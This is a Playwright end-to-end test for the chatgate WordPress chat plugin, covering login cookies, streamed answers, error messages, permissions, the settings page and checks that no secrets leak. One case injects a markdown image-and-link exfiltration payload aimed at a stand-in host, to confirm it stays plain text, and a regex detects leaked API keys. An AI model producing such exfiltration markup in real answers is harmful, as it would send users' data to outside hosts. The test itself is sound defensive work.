// The chatgate WordPress plugin in a real WordPress, in Debian's chromium
// (driven by playwright-core): real logins through wp-login.php, the cookie
// the plugin sets, a streamed answer in the shortcode's and the block's box,
// the boxes for visitors who may not chat, logout and password change, the
// settings page, and no key or secret in anything the browser saw.
//
// Usage: node wordpress.test.js BASE_URL MOCK_STATS_URL
// Environment: CG_KEY (the provider key), CG_SECRET (the signing secret),
// CG_WP (JSON: page, block_page, editor, subscriber ids, passwords),
// CG_REPORT_CMD (writes today's report), CG_SCREENSHOT (where to save a
// picture of the box, optional).
// Prints TAP lines and a last line "N passed, N failed"; exits 1 on failure.
'use strict';

const { chromium } = require('playwright-core');
const launch = require('./launch');

const [base, statsUrl] = process.argv.slice(2);
const origin = new URL(base).origin;
const key = process.env.CG_KEY || '';
const secret = process.env.CG_SECRET || '';
const wp = JSON.parse(process.env.CG_WP || '{}');
const pageUrl = base + '/?page_id=' + wp.page;
const blockUrl = base + '/?page_id=' + wp.block_page;
const outside = 'http://127.0.0.2:9';

const { ok, done, record } = require('./tap');

function b64url(s) {
    return Buffer.from(s).toString('base64url');
}

function pctEncode(s) {
    return encodeURIComponent(s).replace(/[!'()*]/g,
        (ch) => '%' + ch.charCodeAt(0).toString(16));
}

async function chatCookie(ctx) {
    return (await ctx.cookies(base + '/api/chat')).find((c) => c.name === 'chatgate_session');
}

async function login(ctx, user, password) {
    const page = await ctx.newPage();
    page.setDefaultTimeout(20000);
    await page.goto(base + '/wp-login.php');
    await page.fill('#user_login', user);
    await page.fill('#user_pass', password);
    await Promise.all([page.waitForURL(/wp-admin/), page.click('#wp-submit')]);
    return page;
}

// Types into the box, sends, waits for the answer (or error) entry.
async function say(page, text) {
    const box = page.locator('.chatgate-box');
    const before = await box.locator('.chatgate-log > li').count();
    await box.locator('.chatgate-message').fill(text);
    await box.locator('.chatgate-message').press('Enter');
    await page.waitForFunction((b) => {
        return document.querySelectorAll('.chatgate-log > li').length >= b + 2
            && !document.querySelector('.chatgate-send').disabled;
    }, before);
    const last = box.locator('.chatgate-log > li').last();
    return { cls: await last.getAttribute('class'),
             mode: await last.getAttribute('data-mode'),
             text: await last.locator('.chatgate-text').textContent() };
}

// A POST to /api/chat from the page, as its script would send it.
async function apiStatus(page) {
    return page.evaluate(async () => (await fetch('/api/chat', {
        method: 'POST', credentials: 'same-origin',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ message: 'hello?' }) })).status);
}

async function boxState(page) {
    const box = page.locator('.chatgate-box');
    return { state: await box.getAttribute('data-state'),
             text: (await box.textContent()).trim() };
}

async function storageOf(page) {
    return page.evaluate(() => JSON.stringify(
        [Object.entries(localStorage), Object.entries(sessionStorage), document.cookie]));
}

async function main() {
    const browser = await launch(chromium);
    const seen = [];
    const pending = [];
    const storage = [];
    async function context() {
        const ctx = await browser.newContext();
        pending.push(...record(ctx, seen));
        return ctx;
    }
    try {
        // 1. Not logged in: the box asks to log in, /api/chat says 401.
        const anon = await context();
        const p0 = await anon.newPage();
        p0.setDefaultTimeout(20000);
        const doc = await p0.goto(pageUrl);
        const csp = (await doc.allHeaders())['content-security-policy'] || '';
        ok(/script-src 'self'/.test(csp) && !/unsafe/.test(csp),
           'the page is served under a strict CSP', csp);
        let b = await boxState(p0);
        ok(b.state === 'login' && /please log in/i.test(b.text)
           && await p0.locator('.chatgate-box a.chatgate-login').count() === 1,
           'logged out, the box asks to log in (with a login link)', JSON.stringify(b));
        ok(await apiStatus(p0) === 401, 'logged out, /api/chat answers 401');
        ok(!(await chatCookie(anon)), 'a visitor gets no chatgate cookie');
        await anon.close();

        // 2. The editor logs in: the cookie, minted for wp:<ID> until the
        //    WordPress session ends.
        const ed = await context();
        const page = await login(ed, 'editor', wp.passwords.editor);
        const c = await chatCookie(ed);
        const prefix = 'v2.wp1.' + b64url('wp:' + wp.editor) + '.';
        ok(c && c.httpOnly && c.sameSite === 'Strict' && c.path === '/api/chat'
           && !c.secure && c.value.startsWith(prefix),
           'logging in sets an HttpOnly SameSite=Strict cookie for /api/chat: a v2 token (kid wp1) for wp:' + wp.editor,
           JSON.stringify(c));
        const exp = c ? Number(c.value.split('.')[3]) : 0;
        const now = Date.now() / 1000;
        // WordPress's default session without "remember me": two days.
        ok(exp > now + 2 * 86400 - 600 && exp <= now + 2 * 86400 + 60 && c.expires === -1,
           'the token ends with the WordPress session; the cookie with the browser session',
           exp - now + ' s, expires ' + (c && c.expires));
        const wpCookies = (await ed.cookies()).filter((x) => /^wordpress_logged_in/.test(x.name));
        ok(wpCookies.length === 1, 'WordPress logged the editor in');

        // 3. The shortcode's box: a streamed answer, the requests left.
        await page.goto(pageUrl);
        b = await boxState(page);
        ok(b.state === 'ready', 'the editor gets the chat box', JSON.stringify(b));
        const html = await page.locator('.chatgate-box').evaluate((e) => e.outerHTML);
        ok(!/<script|\sstyle=|\son\w+=/i.test(html), 'the box has no inline script, style or handler');
        ok(await page.evaluate(() => Array.from(document.scripts).some(
            (s) => /\/wp-content\/plugins\/chatgate\/assets\/chat\.js/.test(s.src))),
           'its script is an enqueued file of the plugin');
        ok(await page.evaluate(() => document.cookie.indexOf('chatgate') < 0),
           'the page script cannot read the chatgate cookie');
        await page.evaluate(() => {
            window.cgStates = new Set();
            new MutationObserver(() => {
                const t = document.querySelector('.chatgate-log > li.chatgate-assistant:last-of-type .chatgate-text');
                if (t) {
                    window.cgStates.add(t.textContent);
                }
            }).observe(document.querySelector('.chatgate-log'),
                       { childList: true, subtree: true, characterData: true });
        });
        const hello = await say(page, 'Hello from WordPress! [[mock:hold_ms=30]]');
        ok(hello.cls === 'chatgate-assistant' && hello.text === 'mock reply: Hello from WordPress!',
           'the answer from the mock provider is shown', JSON.stringify(hello));
        ok(hello.mode === 'stream' && await page.evaluate(() => window.cgStates.size) > 2,
           'it was shown piece by piece as it streamed', hello.mode);
        const limits = await page.textContent('.chatgate-limits');
        ok(/\d+ of 30 requests left this minute/.test(limits),
           'the requests left are shown in words', limits);
        if (process.env.CG_SCREENSHOT) {
            await page.locator('.chatgate-box').screenshot({ path: process.env.CG_SCREENSHOT });
        }
        const evil = '![x](' + outside + '/leak?d=SECRET) <img src=' + outside
            + '/x> [click me](' + outside + '/l?d=SECRET)';
        const r = await say(page, 'Show me [[mock:text=' + pctEncode(evil) + ']]');
        const active = await page.evaluate(() => document.querySelectorAll(
            '.chatgate-log img, .chatgate-log a, .chatgate-log iframe').length);
        ok(r.cls === 'chatgate-assistant' && /click me/.test(r.text) && active === 0,
           'a hostile answer stays text', JSON.stringify(r));
        storage.push(await storageOf(page));

        // 3b. Errors in words, for answers this stack does not give on
        //     demand (canned at the browser, as chatgate documents them).
        const sseBody = (events) => events.map(([name, data]) =>
            'event: ' + name + '\r\ndata: ' + JSON.stringify(data) + '\r\n\r\n').join('');
        const cases = [
            ['rate limited, with the wait', 429, { 'Retry-After': '7' }, 'application/json',
             JSON.stringify({ error: { type: 'rate_limited', message: 'x' } }),
             /too many messages.*wait 7 seconds and try again/i],
            ['budget used up', 429, { 'Retry-After': '1' }, 'application/json',
             JSON.stringify({ error: { type: 'budget_exceeded', message: 'x' } }),
             /budget for now is used up.*wait 1 second and try again/i],
            ['provider down', 502, {}, 'application/json',
             JSON.stringify({ error: { type: 'upstream_error', message: 'x' } }),
             /AI service is unavailable/],
            ['a stream cut off', 200, {}, 'text/event-stream',
             sseBody([['delta', { text: 'Par' }]]), /cut off/],
            ['a stream ended by an error event', 200, {}, 'text/event-stream',
             sseBody([['delta', { text: 'Par' }],
                      ['error', { error: { type: 'budget_exceeded', message: 'x' } }]]),
             /budget for now is used up/],
            ['a message refused', 400, {}, 'application/json',
             JSON.stringify({ error: { type: 'invalid_request', message: 'Message is empty.' } }),
             /could not be sent: Message is empty\./],
        ];
        for (const [name, status, headers, type, body, want] of cases) {
            await page.route('**/api/chat', (route) => route.fulfill({
                status: status, headers: Object.assign({ 'Content-Type': type }, headers), body: body }));
            const r = await say(page, 'case');
            await page.unroute('**/api/chat');
            ok(r.cls === 'chatgate-error' && want.test(r.text), 'in words: ' + name, JSON.stringify(r));
        }
        // A session that ends while the page is open: the words, and the
        // site's login link above the form.
        await page.route('**/api/chat', (route) => route.fulfill({
            status: 401, headers: { 'Content-Type': 'application/json' },
            body: JSON.stringify({ error: { type: 'authentication_error', message: 'x' } }) }));
        const gone = await say(page, 'case');
        await page.unroute('**/api/chat');
        const link = await page.getAttribute('.chatgate-box .chatgate-notice a.chatgate-login', 'href');
        ok(gone.cls === 'chatgate-error' && /please log in/i.test(gone.text)
           && link === base + '/wp-login.php?redirect_to=' + encodeURIComponent(pageUrl),
           'a session that ends while the page is open: "please log in" and the login link', link);

        // 4. The block's box works the same.
        await page.goto(blockUrl);
        const viaBlock = await say(page, 'Hello from the block!');
        ok(viaBlock.cls === 'chatgate-assistant' && viaBlock.text === 'mock reply: Hello from the block!',
           'the block renders a working chat box', JSON.stringify(viaBlock));
        storage.push(await page.content());

        // 5. A password change (in a second browser): that browser keeps
        //    chatting with a new cookie; this one, whose WordPress login died
        //    with the old password, loses its chatgate cookie on its next page.
        const ed2 = await context();
        const prof = await login(ed2, 'editor', wp.passwords.editor);
        await prof.goto(base + '/wp-admin/profile.php');
        await prof.click('button.wp-generate-pw');
        await prof.fill('#pass1', wp.passwords.editor + 'X9!new');
        if (await prof.locator('.pw-checkbox').isVisible()) {
            await prof.check('.pw-checkbox');
        }
        await Promise.all([prof.waitForURL(/updated=1/), prof.click('#submit')]);
        const c2 = await chatCookie(ed2);
        ok(c2 && c2.value.startsWith(prefix), 'after a password change the changing browser gets a new token',
           JSON.stringify(c2));
        await prof.goto(pageUrl);
        const after = await say(prof, 'Still here?');
        ok(after.cls === 'chatgate-assistant', 'and chats on', JSON.stringify(after));
        await page.goto(pageUrl);
        b = await boxState(page);
        ok(!(await chatCookie(ed)) && b.state === 'login',
           'the other browser lost its chatgate cookie with its WordPress login', JSON.stringify(b));
        storage.push(JSON.stringify(await ed.cookies()), JSON.stringify(await ed2.cookies()));

        // 6. Log out: the cookie goes, the box asks to log in, 401.
        const logout = await prof.getAttribute('#wp-admin-bar-logout a', 'href');
        await prof.goto(logout);
        ok(!(await chatCookie(ed2)), 'logging out removes the chatgate cookie');
        await prof.goto(pageUrl);
        b = await boxState(prof);
        ok(b.state === 'login' && await apiStatus(prof) === 401,
           'after logging out the box asks to log in and /api/chat answers 401', JSON.stringify(b));
        await ed.close();
        await ed2.close();

        // 7. A subscriber (only editors may chat): no cookie, the box says why.
        const sub = await context();
        const sp = await login(sub, 'subscriber', wp.passwords.subscriber);
        ok(!(await chatCookie(sub)), 'a subscriber without the capability gets no cookie');
        await sp.goto(pageUrl);
        b = await boxState(sp);
        ok(b.state === 'denied' && /not allowed/i.test(b.text),
           'the subscriber\'s box says the account may not chat', JSON.stringify(b));
        ok(await apiStatus(sp) === 401, 'and /api/chat answers the subscriber 401');
        storage.push(await storageOf(sp));

        // 8. The administrator: the settings page (key state, usage summary
        //    over loopback), and a change through the form (its nonce).
        require('child_process').execSync(process.env.CG_REPORT_CMD);
        const adm = await context();
        const ap = await login(adm, 'admin', wp.passwords.admin);
        await ap.goto(base + '/wp-admin/options-general.php?page=chatgate');
        const settings = await ap.textContent('#wpbody-content');
        ok(/key id wp1/.test(settings), 'the settings page says the key is configured (key id only)');
        ok(/chatgate accepts this site's tokens\./.test(settings),
           'and that chatgate accepts the site\'s tokens (checked over loopback)', settings);
        const usage = await ap.locator('table.chatgate-usage').textContent().catch(() => '');
        const m = usage.match(/Chat requests since chatgate started\s*(\d+)/);
        ok(m && Number(m[1]) >= 4, 'the usage summary shows chatgate\'s request count', usage);
        ok(/Refused: authentication_error\s*\d+/.test(usage), 'and the refusals by type', usage);
        ok(/Site budget per day \(USD\)\s*50\.0000/.test(usage), 'and the site\'s daily budget', usage);
        const today = await ap.locator('table.chatgate-today').textContent().catch(() => '');
        ok(/Site spend today \(USD\)\s*\d+\.\d{4} of 50\.0000 \(\d+\.\d%\)/.test(today),
           'today\'s site spend is set against the budget', today);
        const users = await ap.locator('table.chatgate-users').textContent().catch(() => '');
        ok(new RegExp('editor \\(wp:' + wp.editor + '\\)\\s*[4-9]').test(users),
           'and the editor\'s requests today are listed by name', users);
        await ap.check('input[name="chatgate_who"][value="all"]');
        await Promise.all([ap.waitForURL(/settings-updated=true/), ap.click('#submit')]);
        storage.push(await ap.content());
        await sp.goto(pageUrl);
        b = await boxState(sp);
        const sc = await chatCookie(sub);
        ok(b.state === 'ready' && sc && sc.value.startsWith('v2.wp1.' + b64url('wp:' + wp.subscriber) + '.'),
           'once all logged-in users may chat, the subscriber gets the cookie and the box',
           JSON.stringify(b));
        storage.push(await storageOf(sp), JSON.stringify(await sub.cookies()),
                     JSON.stringify(await adm.cookies()));
        // Back to editors only, for the usage-log check after this script.
        await ap.goto(base + '/wp-admin/options-general.php?page=chatgate');
        await ap.check('input[name="chatgate_who"][value="capability"]');
        await Promise.all([ap.waitForURL(/settings-updated=true/), ap.click('#submit')]);
        await adm.close();
        await sub.close();
    } finally {
        await browser.close();
    }
    await Promise.all(pending);

    const foreign = seen.filter((s) => new URL(s.url).origin !== origin);
    ok(seen.length > 0 && foreign.length === 0, 'the browser talked to no origin but the site\'s',
       foreign.map((s) => s.kind + ' ' + s.url).join('\n'));
    const everything = JSON.stringify(seen) + storage.join('\n');
    const variants = [];
    for (const v of [key, secret]) {
        variants.push(v, Buffer.from(v).toString('base64'), Buffer.from(v).toString('base64url'),
                      v.slice(13, 40));
    }
    const hits = variants.filter((v) => everything.includes(v));
    ok(key && secret && hits.length === 0 && !/sk-ant-(api|admin)\d\d-[\w-]{20}/.test(everything),
       'neither the provider key nor the signing secret is in any page, cookie, request or storage',
       hits.length + ' variants found');
    const stats = await (await fetch(statsUrl)).json();
    ok(stats.requests >= 4, 'the answers came from the provider behind chatgate', JSON.stringify(stats));
}

main().catch((e) => {
    ok(false, 'browser test ran to the end', e && e.stack);
}).finally(() => {
    done();
});
